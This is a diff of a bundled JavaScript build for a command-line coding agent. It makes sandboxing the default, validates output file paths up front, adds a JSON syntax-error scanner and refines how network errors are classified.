@@ -2,7 +2,7 @@ export const id = 737;
 export const ids = [737];
 export const modules = {
 
-/***/ 4407:
+/***/ 44407:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -16,8 +16,8 @@ export const modules = {
 /* harmony export */   vk: () => (/* binding */ addUsage)
 /* harmony export */ });
 /* unused harmony export DEFAULT_BUDGETS */
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
-/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(133);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
+/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(30133);
 
 
 const DEFAULT_BUDGETS = {
@@ -223,7 +223,7 @@ function cancelledForBudget(request, tool, maxToolCalls) {
 
 /***/ }),
 
-/***/ 944:
+/***/ 60944:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -260,7 +260,7 @@ function emptyUsage() {
 
 /***/ }),
 
-/***/ 133:
+/***/ 30133:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -362,7 +362,7 @@ function textOf(content) {
 
 /***/ }),
 
-/***/ 3564:
+/***/ 53564:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -370,10 +370,10 @@ function textOf(content) {
 /* harmony export */   QN: () => (/* binding */ ToolScheduler),
 /* harmony export */   qg: () => (/* binding */ toFunctionResponseContent)
 /* harmony export */ });
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
-/* harmony import */ var _tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9285);
-/* harmony import */ var _events_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(944);
-/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(133);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
+/* harmony import */ var _tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(29285);
+/* harmony import */ var _events_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(60944);
+/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(30133);
 
 
 
@@ -746,15 +746,15 @@ class LiveOutput {
 
 /***/ }),
 
-/***/ 9139:
+/***/ 39139:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   C: () => (/* binding */ createTranscriptWriter)
 /* harmony export */ });
-/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
 /* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6760);
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
 /* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
 /**
  * The transcript: every AgentEvent of a session as one JSON line, in the order emitted. Lines are
@@ -788,7 +788,7 @@ function createTranscriptWriter(filePath, options = {}) {
 
 /***/ }),
 
-/***/ 7593:
+/***/ 77593:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -796,12 +796,12 @@ function createTranscriptWriter(filePath, options = {}) {
 /* harmony export */   i3: () => (/* binding */ parseRunMode),
 /* harmony export */   u_: () => (/* binding */ USAGE)
 /* harmony export */ });
-/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7975);
+/* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(57975);
 /* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_util__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var _model_model_table_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(109);
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(6316);
+/* harmony import */ var _model_model_table_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(90109);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(46316);
 /* harmony import */ var _platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(9332);
-/* harmony import */ var _policy_policy_types_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(5578);
+/* harmony import */ var _policy_policy_types_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(45578);
 
 
 
@@ -840,8 +840,9 @@ Options:
       --yolo                 instead of the preset, allow every call no --policy rule decides.
                              Shell commands are still checked sub-command by sub-command:
                              substitutions, wrappers, redirections and the like stay denied
-      --sandbox MODE         where shell commands run: none (default), auto, namespace or user
-                             (as the Action's sandbox input; auto takes the strongest that works)
+      --sandbox MODE         where shell commands run: auto (default: the strongest sandbox
+                             that works here; without one, a notice says so), namespace, user,
+                             or none (no sandbox, no notice)
   -d, --debug                log details to standard error
   -v, --version              print the version
   -h, --help                 print this help
@@ -871,12 +872,32 @@ function positiveNumber(flag, value) {
     }
     return number;
 }
+/**
+ * node:util refuses `--max-turns -1` as ambiguous, because the value looks like an option. A
+ * negative number after a long option is meant as its value, so it is joined as `--max-turns=-1`
+ * and judged like any other value, with the same message.
+ */
+function joinNegativeValues(argv) {
+    const joined = [];
+    for (let index = 0; index < argv.length; index++) {
+        const word = argv[index] ?? '';
+        const next = argv[index + 1];
+        if (/^--[^=]+$/.test(word) && next !== undefined && /^-\.?\d/.test(next)) {
+            joined.push(`${word}=${next}`);
+            index++;
+        }
+        else {
+            joined.push(word);
+        }
+    }
+    return joined;
+}
 /** Parses the command line; every mistake is a one-line `UsageError` (exit code 42). */
 function parseCliArgs(argv) {
     let parsed;
     try {
         parsed = (0,node_util__WEBPACK_IMPORTED_MODULE_0__.parseArgs)({
-            args: [...argv],
+            args: joinNegativeValues(argv),
             allowPositionals: true,
             strict: true,
             options: {
@@ -922,7 +943,7 @@ function parseCliArgs(argv) {
     if (values.replay !== undefined && values.record !== undefined) {
         throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb('--replay and --record cannot be used together.');
     }
-    const sandbox = values.sandbox ?? 'none';
+    const sandbox = values.sandbox ?? 'auto';
     if (!_platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_4__/* .SANDBOX_MODES */ .f.includes(sandbox)) {
         throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .UsageError */ .eb(`--sandbox expects one of ${_platform_sandbox_sandbox_types_js__WEBPACK_IMPORTED_MODULE_4__/* .SANDBOX_MODES */ .f.join(', ')}, got "${sandbox}".`);
     }
@@ -974,7 +995,7 @@ function parseRunMode(flag, value) {
 
 /***/ }),
 
-/***/ 3789:
+/***/ 28551:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
@@ -982,7 +1003,7 @@ function parseRunMode(flag, value) {
 /* harmony export */   Nj: () => (/* binding */ exitCodeForReason),
 /* harmony export */   yU: () => (/* binding */ ExitCode)
 /* harmony export */ });
-/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
 
 /** The Gemini CLI's exit codes, so scripts written for it keep working. */
 const ExitCode = {
@@ -1024,7 +1045,7 @@ function exitCodeForError(error) {
 
 /***/ }),
 
-/***/ 9062:
+/***/ 29062:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -1034,14 +1055,14 @@ __webpack_require__.d(__webpack_exports__, {
   G: () => (/* binding */ serveRecordedSession)
 });
 
-// EXTERNAL MODULE: ./src/model/recording.ts
-var recording = __webpack_require__(7570);
+// EXTERNAL MODULE: ./src/model/recording.ts + 1 modules
+var recording = __webpack_require__(26602);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: external "node:http"
-var external_node_http_ = __webpack_require__(7067);
+var external_node_http_ = __webpack_require__(37067);
 // EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
-var node = __webpack_require__(7964);
+var node = __webpack_require__(67964);
 ;// CONCATENATED MODULE: ./src/testing/fake-script.ts
 
 // --- parts -------------------------------------------------------------------------------------
@@ -1501,7 +1522,7 @@ async function serveRecordedSession(file) {
 
 /***/ }),
 
-/***/ 1737:
+/***/ 41737:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -1512,40 +1533,40 @@ __webpack_require__.d(__webpack_exports__, {
 });
 
 // EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __webpack_require__(7598);
+var external_node_crypto_ = __webpack_require__(77598);
 // EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
+var promises_ = __webpack_require__(51455);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./src/agent/transcript.ts
-var agent_transcript = __webpack_require__(9139);
+var agent_transcript = __webpack_require__(39139);
 // EXTERNAL MODULE: ./src/model/create-content-generator.ts + 7 modules
-var create_content_generator = __webpack_require__(3123);
+var create_content_generator = __webpack_require__(53123);
 // EXTERNAL MODULE: ./src/model/model-auth.ts
-var model_auth = __webpack_require__(7815);
+var model_auth = __webpack_require__(67815);
 // EXTERNAL MODULE: ./src/model/model-choice.ts
-var model_choice = __webpack_require__(1106);
+var model_choice = __webpack_require__(11106);
 // EXTERNAL MODULE: ./src/model/retry.ts + 1 modules
-var retry = __webpack_require__(2638);
+var retry = __webpack_require__(92638);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: ./src/platform/logger.ts
-var platform_logger = __webpack_require__(3255);
-// EXTERNAL MODULE: ./src/platform/sandbox/resolve-sandbox.ts + 8 modules
-var resolve_sandbox = __webpack_require__(7669);
+var platform_logger = __webpack_require__(63255);
+// EXTERNAL MODULE: ./src/platform/sandbox/resolve-sandbox.ts + 6 modules
+var resolve_sandbox = __webpack_require__(33784);
 // EXTERNAL MODULE: ./src/report/session-stats.ts
-var session_stats = __webpack_require__(3020);
-// EXTERNAL MODULE: ./src/run-agent.ts + 16 modules
-var run_agent = __webpack_require__(7589);
-// EXTERNAL MODULE: ./src/config/settings.ts + 4 modules
-var config_settings = __webpack_require__(7604);
+var session_stats = __webpack_require__(93020);
+// EXTERNAL MODULE: ./src/run-agent.ts + 17 modules
+var run_agent = __webpack_require__(1618);
+// EXTERNAL MODULE: ./src/config/settings.ts + 3 modules
+var config_settings = __webpack_require__(30979);
 // EXTERNAL MODULE: ./src/version.ts + 1 modules
-var version = __webpack_require__(1013);
+var version = __webpack_require__(71013);
 // EXTERNAL MODULE: ./src/cli/args.ts
-var args = __webpack_require__(7593);
+var args = __webpack_require__(77593);
 // EXTERNAL MODULE: ./src/cli/exit-codes.ts
-var exit_codes = __webpack_require__(3789);
+var exit_codes = __webpack_require__(28551);
 ;// CONCATENATED MODULE: ./src/cli/output/json-output.ts
 function createJsonOutput(options) {
     const { stdout, stats } = options;
@@ -2047,8 +2068,8 @@ function firstLine(text) {
     return line.length > 200 ? `${line.slice(0, 200)}…` : line;
 }
 
-// EXTERNAL MODULE: ./src/policy-setup.ts + 17 modules
-var policy_setup = __webpack_require__(4293);
+// EXTERNAL MODULE: ./src/policy-setup.ts + 20 modules
+var policy_setup = __webpack_require__(5650);
 ;// CONCATENATED MODULE: ./src/cli/read-stdin.ts
 /** Reads all of standard input when it is piped; undefined when it is a terminal. */
 async function readPipedStdin(stdin) {
@@ -2062,7 +2083,7 @@ async function readPipedStdin(stdin) {
 }
 
 // EXTERNAL MODULE: ./src/cli/replay-model.ts + 2 modules
-var replay_model = __webpack_require__(9062);
+var replay_model = __webpack_require__(29062);
 ;// CONCATENATED MODULE: ./src/cli/run-cli.ts
 /**
  * The CLI's composition root: flags → model transport (live, or a recorded session served by the
@@ -2115,15 +2136,15 @@ async function runCli(argv, io) {
     // Loaded when used: they bring most of the Action's GitHub side, which `-p` never needs and
     // whose loading would delay every run's first model request.
     if (argv[0] === 'policy') {
-        const { runPolicyCommand } = await __webpack_require__.e(/* import() */ 34).then(__webpack_require__.bind(__webpack_require__, 2034));
+        const { runPolicyCommand } = await __webpack_require__.e(/* import() */ 34).then(__webpack_require__.bind(__webpack_require__, 72034));
         return runPolicyCommand(argv.slice(1), io);
     }
     if (argv[0] === 'run') {
-        const { runRunCommand } = await Promise.all(/* import() */[__webpack_require__.e(167), __webpack_require__.e(863)]).then(__webpack_require__.bind(__webpack_require__, 5863));
+        const { runRunCommand } = await Promise.all(/* import() */[__webpack_require__.e(644), __webpack_require__.e(863)]).then(__webpack_require__.bind(__webpack_require__, 85863));
         return runRunCommand(argv.slice(1), io);
     }
     if (argv[0] === 'demo') {
-        const { runDemoCommand } = await Promise.all(/* import() */[__webpack_require__.e(167), __webpack_require__.e(863), __webpack_require__.e(323)]).then(__webpack_require__.bind(__webpack_require__, 1323));
+        const { runDemoCommand } = await Promise.all(/* import() */[__webpack_require__.e(644), __webpack_require__.e(863), __webpack_require__.e(323)]).then(__webpack_require__.bind(__webpack_require__, 1323));
         return runDemoCommand(argv.slice(1), io);
     }
     let options;
@@ -2152,6 +2173,27 @@ async function runCli(argv, io) {
             throw new errors/* UsageError */.eb('No prompt given: pass the task with -p "<prompt>" or pipe it in.');
         }
         await requireDirectory(options.repo);
+        // Files the run writes are checked before anything starts, so a path that cannot be written
+        // is a usage error naming its flag rather than a failure in the middle of the session.
+        if (options.record !== undefined)
+            await requireWritableFile('--record', options.record);
+        if (options.transcript !== undefined) {
+            await requireWritableFile('--transcript', options.transcript);
+        }
+        const transcript = options.transcript ? (0,agent_transcript/* createTranscriptWriter */.C)(options.transcript) : undefined;
+        if (transcript)
+            cleanups.push(() => {
+                transcript.close();
+            });
+        // Finding the sandbox runs a probe the first time; it goes on while settings, policy and the
+        // model are prepared.
+        const sandboxFound = (0,resolve_sandbox/* resolveSandbox */.u1)(options.sandbox, {
+            env: io.env,
+            logger,
+            setting: '--sandbox',
+        });
+        // Awaited below; a failure before then must not surface as an unhandled rejection.
+        sandboxFound.catch(() => undefined);
         // Settings and policy problems (a typo in a --policy file) stop the run before any model
         // request. Settings come from the repository's .gemini/settings.json, as in the Gemini CLI.
         const settings = await (0,config_settings/* loadAgentSettings */.td)({
@@ -2160,6 +2202,8 @@ async function runCli(argv, io) {
             env: io.env,
         });
         const policy = await (0,policy_setup/* loadCliPolicy */.rw)({ ...options, settings });
+        for (const warning of policy.warnings)
+            logger.warning(warning);
         const models = (0,model_choice/* chooseRunModels */.fc)({
             explicit: { value: options.model, setBy: '--model' },
             env: io.env,
@@ -2176,17 +2220,14 @@ async function runCli(argv, io) {
         const contentGenerator = await openModel(options, io, sessionId, cleanups, (message) => {
             reportRetry(message);
         });
-        const transcript = options.transcript ? (0,agent_transcript/* createTranscriptWriter */.C)(options.transcript) : undefined;
-        if (transcript)
-            cleanups.push(() => {
-                transcript.close();
-            });
-        const sandbox = options.sandbox === 'none'
-            ? undefined
-            : await (0,resolve_sandbox/* resolveSandbox */.u)(options.sandbox, { env: io.env, logger, setting: '--sandbox' });
-        if (sandbox) {
-            (0,resolve_sandbox/* reportSandbox */.g)(sandbox, { mode: options.sandbox, isolateNetwork: false, logger });
-        }
+        const sandbox = await sandboxFound;
+        (0,resolve_sandbox/* reportSandbox */.go)(sandbox, {
+            mode: options.sandbox,
+            isolateNetwork: false,
+            logger,
+            silence: 'Pass --sandbox none to run without one on purpose and silence this notice.',
+            quiet: true,
+        });
         const controller = new AbortController();
         cleanups.push(io.onInterrupt(() => {
             controller.abort();
@@ -2210,7 +2251,7 @@ async function runCli(argv, io) {
                     : {}),
             },
             signal: controller.signal,
-            ...(sandbox ? { sandbox } : {}),
+            sandbox,
             settings,
         });
         reportRetry = (message) => {
@@ -2264,6 +2305,21 @@ async function requireDirectory(dir) {
         throw new errors/* UsageError */.eb(`--repo expects an existing directory, got "${external_node_path_default().resolve(dir)}".`);
     }
 }
+/** A file the run may create or append to; a folder or an unwritable place is a usage error. */
+async function requireWritableFile(flag, file) {
+    const target = external_node_path_default().resolve(file);
+    const info = await (0,promises_.stat)(target).catch(() => undefined);
+    if (info?.isDirectory()) {
+        throw new errors/* UsageError */.eb(`${flag} expects a file, but "${target}" is a directory.`);
+    }
+    try {
+        await (0,promises_.mkdir)(external_node_path_default().dirname(target), { recursive: true });
+        await (await (0,promises_.open)(target, 'a')).close();
+    }
+    catch (error) {
+        throw new errors/* UsageError */.eb(`${flag}: cannot write "${target}" (${(0,errors/* errorMessage */.gJ)(error)}).`);
+    }
+}
 /**
  * The model: live from the environment's credentials, or — with `--replay` — a recorded session
  * served by the local fake Gemini server, so replay goes through the same client as live runs.
@@ -2301,27 +2357,16 @@ function optional(transcript) {
 
 /***/ }),
 
-/***/ 7604:
+/***/ 86948:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
-
-// EXPORTS
-__webpack_require__.d(__webpack_exports__, {
-  WA: () => (/* binding */ DEFAULT_SETTINGS_PATH),
-  ZR: () => (/* binding */ SETTINGS_INPUT_NAME),
-  td: () => (/* binding */ loadAgentSettings)
-});
-
-// UNUSED EXPORTS: parseAgentSettings
-
-// EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
-// EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
-var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
-// EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
-;// CONCATENATED MODULE: ./src/config/json-text.ts
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   Od: () => (/* binding */ locateJsonPath),
+/* harmony export */   UQ: () => (/* binding */ jsonSyntaxError),
+/* harmony export */   lk: () => (/* binding */ parseJsonText)
+/* harmony export */ });
+/* unused harmony exports blankComments, positionAt, jsonErrorOffset */
+/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
 /**
  * JSON configuration text as people write it: with `//` and `/* *\/` comments (the Gemini CLI
  * accepts them in settings.json), and with errors that point at a line and column — of a syntax
@@ -2388,13 +2433,20 @@ function parseJsonText(text, file) {
         return JSON.parse(blanked);
     }
     catch (error) {
-        const message = error instanceof Error ? error.message : String(error);
-        const at = syntaxErrorPosition(blanked, message);
-        const reason = message.replace(/\s*(?:in JSON )?at position \d+.*$/s, '').trim();
-        throw new errors/* ConfigurationError */.j1(`expected valid JSON; ${reason}.`, { file, ...at });
+        const { reason, position } = jsonSyntaxError(blanked, error);
+        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`expected valid JSON; ${reason}.`, { file, ...position });
     }
 }
-/** Node reports `at position N` (and newer versions `(line L column C)`). */
+/** What `JSON.parse` said about `text`, and where in it, as a line and column. */
+function jsonSyntaxError(text, error) {
+    const message = error instanceof Error ? error.message : String(error);
+    const reason = message.replace(/\s*(?:in JSON )?at position \d+.*$/s, '').trim();
+    return { reason, position: syntaxErrorPosition(text, message) };
+}
+/**
+ * Node reports `at position N` (and newer versions `(line L column C)`), but V8's "Unexpected
+ * token" messages say nowhere; the text is then scanned for the first character that breaks it.
+ */
 function syntaxErrorPosition(text, message) {
     const lineColumn = /line (\d+) column (\d+)/.exec(message);
     if (lineColumn)
@@ -2402,9 +2454,145 @@ function syntaxErrorPosition(text, message) {
     const position = /position (\d+)/.exec(message);
     if (position)
         return positionAt(text, Number(position[1]));
-    if (/end of (?:JSON )?input/i.test(message))
-        return positionAt(text, text.length);
-    return {};
+    const offset = jsonErrorOffset(text);
+    return positionAt(text, offset === undefined ? text.length : offset);
+}
+/**
+ * The offset of the first character at which `text` stops being JSON (its length when it ends
+ * too early), or undefined when it is JSON. A plain recursive-descent scan of RFC 8259's grammar.
+ */
+function jsonErrorOffset(text) {
+    let i = 0;
+    const fail = () => {
+        throw new JsonScanStop(i);
+    };
+    const space = () => {
+        while (i < text.length && ' \t\n\r'.includes(text[i] ?? ''))
+            i += 1;
+    };
+    const expect = (char) => {
+        if (text[i] !== char)
+            fail();
+        i += 1;
+    };
+    const string = () => {
+        expect('"');
+        for (;;) {
+            const char = text[i];
+            if (char === undefined || char < ' ')
+                fail();
+            i += 1;
+            if (char === '"')
+                return;
+            if (char === '\\') {
+                const escape = text[i] ?? '';
+                if (escape === 'u') {
+                    for (let digit = 1; digit <= 4; digit += 1) {
+                        if (!/[0-9a-fA-F]/.test(text[i + digit] ?? '')) {
+                            i += digit;
+                            fail();
+                        }
+                    }
+                    i += 5;
+                }
+                else if (escape !== '' && '"\\/bfnrt'.includes(escape)) {
+                    i += 1;
+                }
+                else {
+                    fail();
+                }
+            }
+        }
+    };
+    const NUMBER = /-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?/y;
+    const number = () => {
+        NUMBER.lastIndex = i;
+        const match = NUMBER.exec(text);
+        if (match === null)
+            fail();
+        i = NUMBER.lastIndex;
+    };
+    const word = (literal) => {
+        for (const char of literal)
+            expect(char);
+    };
+    const value = () => {
+        space();
+        const char = text[i];
+        if (char === '{') {
+            i += 1;
+            space();
+            if (text[i] === '}') {
+                i += 1;
+                return;
+            }
+            for (;;) {
+                space();
+                string();
+                space();
+                expect(':');
+                value();
+                space();
+                if (text[i] === '}') {
+                    i += 1;
+                    return;
+                }
+                expect(',');
+            }
+        }
+        else if (char === '[') {
+            i += 1;
+            space();
+            if (text[i] === ']') {
+                i += 1;
+                return;
+            }
+            for (;;) {
+                value();
+                space();
+                if (text[i] === ']') {
+                    i += 1;
+                    return;
+                }
+                expect(',');
+            }
+        }
+        else if (char === '"') {
+            string();
+        }
+        else if (char === 't') {
+            word('true');
+        }
+        else if (char === 'f') {
+            word('false');
+        }
+        else if (char === 'n') {
+            word('null');
+        }
+        else {
+            number();
+        }
+    };
+    try {
+        value();
+        space();
+        if (i < text.length)
+            fail();
+        return undefined;
+    }
+    catch (error) {
+        if (error instanceof JsonScanStop)
+            return error.offset;
+        throw error;
+    }
+}
+/** Ends the scan at the offending character. */
+class JsonScanStop extends Error {
+    offset;
+    constructor(offset) {
+        super(`not JSON from offset ${offset}`);
+        this.offset = offset;
+    }
 }
 /**
  * Where the value at `path` (object keys and array indexes) starts in the JSON text — the key's
@@ -2503,6 +2691,31 @@ function arrayItem(text, offset, index) {
     return undefined;
 }
 
+
+/***/ }),
+
+/***/ 30979:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  WA: () => (/* binding */ DEFAULT_SETTINGS_PATH),
+  ZR: () => (/* binding */ SETTINGS_INPUT_NAME),
+  td: () => (/* binding */ loadAgentSettings)
+});
+
+// UNUSED EXPORTS: parseAgentSettings
+
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __webpack_require__(51455);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __webpack_require__(76760);
+var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
+// EXTERNAL MODULE: ./src/platform/errors.ts
+var errors = __webpack_require__(46316);
+// EXTERNAL MODULE: ./src/config/json-text.ts
+var json_text = __webpack_require__(86948);
 // EXTERNAL MODULE: ./src/platform/tool-environment.ts
 var tool_environment = __webpack_require__(4861);
 ;// CONCATENATED MODULE: ./src/config/settings-expand.ts
@@ -2553,7 +2766,7 @@ function createExpander(options) {
 }
 
 // EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
-var schemas = __webpack_require__(1514);
+var schemas = __webpack_require__(41514);
 ;// CONCATENATED MODULE: ./src/config/settings-schema.ts
 /**
  * The shape of the settings.json keys the agent uses, and the checks zod cannot express on its
@@ -2803,7 +3016,7 @@ function nonEmpty(text) {
 function locationOf(options, keyPath) {
     if (options.text === undefined)
         return { input: options.source };
-    const at = locateJsonPath(options.text, keyPath);
+    const at = (0,json_text/* locateJsonPath */.Od)(options.text, keyPath);
     return { file: options.source, ...(at ?? {}) };
 }
 /**
@@ -2832,14 +3045,14 @@ async function loadAgentSettings(options) {
             return EMPTY_SETTINGS;
         throw new errors/* ConfigurationError */.j1(`expected the settings file ${JSON.stringify(relative)} to exist in the repository; ${missing ? 'it was not found' : `it could not be read (${code ?? String(error)})`}.`, { input: SETTINGS_INPUT_NAME }, { cause: error });
     }
-    const raw = parseJsonText(text, relative);
+    const raw = (0,json_text/* parseJsonText */.lk)(text, relative);
     return parseAgentSettings(raw, { ...parseOptions, source: relative, text });
 }
 
 
 /***/ }),
 
-/***/ 3123:
+/***/ 53123:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -2849,11 +3062,11 @@ __webpack_require__.d(__webpack_exports__, {
 });
 
 // EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
-var node = __webpack_require__(7964);
+var node = __webpack_require__(67964);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 // EXTERNAL MODULE: ./src/model/errors.ts
-var model_errors = __webpack_require__(7206);
+var model_errors = __webpack_require__(87206);
 ;// CONCATENATED MODULE: ./src/model/code-assist-converter.ts
 
 
@@ -2995,8 +3208,7 @@ const CONNECT_ERROR_CODES = new Set([
     'UND_ERR_CONNECT_TIMEOUT',
 ]);
 /** Error codes of connections that broke once made (Node's `net` and undici's). */
-const NETWORK_ERROR_CODES = new Set([
-    ...CONNECT_ERROR_CODES,
+const BROKEN_CONNECTION_CODES = new Set([
     'ECONNRESET',
     'ECONNABORTED',
     'EPIPE',
@@ -3005,6 +3217,7 @@ const NETWORK_ERROR_CODES = new Set([
     'UND_ERR_HEADERS_TIMEOUT',
     'UND_ERR_BODY_TIMEOUT',
 ]);
+const NETWORK_ERROR_CODES = new Set([...CONNECT_ERROR_CODES, ...BROKEN_CONNECTION_CODES]);
 /** True for `AbortError`s, whether a DOMException from fetch or an Error named so. */
 function isAbortError(error) {
     return (typeof error === 'object' &&
@@ -3035,16 +3248,25 @@ function isNetworkError(error) {
     }
     return false;
 }
-/** The first error code of `codes` in the error or its causes. */
-function codeAmong(error, codes) {
+/**
+ * True when a network error means a connection was made and then broke (worth the longer
+ * back-off), false when none could be made: a known connect failure, or undici's `fetch failed`
+ * over anything else (a TLS certificate refused, a port fetch will not use, a proxy).
+ */
+function isBrokenConnection(error) {
     let current = error;
+    let broken = false;
     for (let depth = 0; depth < 5 && current !== undefined && current !== null; depth++) {
         const code = errorCode(current);
-        if (code !== undefined && codes.has(code))
-            return code;
+        if (code !== undefined && CONNECT_ERROR_CODES.has(code))
+            return false;
+        if (code !== undefined && BROKEN_CONNECTION_CODES.has(code))
+            broken = true;
+        if (current instanceof TypeError && current.message === 'terminated')
+            broken = true;
         current = current instanceof Error ? current.cause : undefined;
     }
-    return undefined;
+    return broken;
 }
 /** Parses a protobuf duration such as `"3s"` or `"0.5s"` into milliseconds. */
 function parseRetryDelay(value) {
@@ -3144,10 +3366,12 @@ function normalizeModelError(error, context = {}) {
         return new model_errors/* ModelRequestError */.j(`The model's streamed response broke off after ${context.chunksReceived ?? 0} chunk(s): ${message}`, { kind: 'stream_cut', cause: error });
     }
     if (isNetworkError(error)) {
-        const connectCode = codeAmong(error, CONNECT_ERROR_CODES);
-        return new model_errors/* ModelRequestError */.j(connectCode !== undefined
-            ? `Could not connect to the model API: ${describeNetworkError(error)}`
-            : `The connection to the model API failed: ${describeNetworkError(error)}`, { kind: connectCode !== undefined ? 'unreachable' : 'network', cause: error });
+        return isBrokenConnection(error)
+            ? new model_errors/* ModelRequestError */.j(`The connection to the model API failed: ${describeNetworkError(error)}`, { kind: 'network', cause: error })
+            : new model_errors/* ModelRequestError */.j(`Could not connect to the model API: ${describeNetworkError(error)}`, {
+                kind: 'unreachable',
+                cause: error,
+            });
     }
     if (inStream) {
         return new model_errors/* ModelRequestError */.j(`The model's streamed response broke off: ${message}`, {
@@ -3282,7 +3506,7 @@ class LineSplitter {
 }
 
 // EXTERNAL MODULE: ./src/version.ts + 1 modules
-var version = __webpack_require__(1013);
+var version = __webpack_require__(71013);
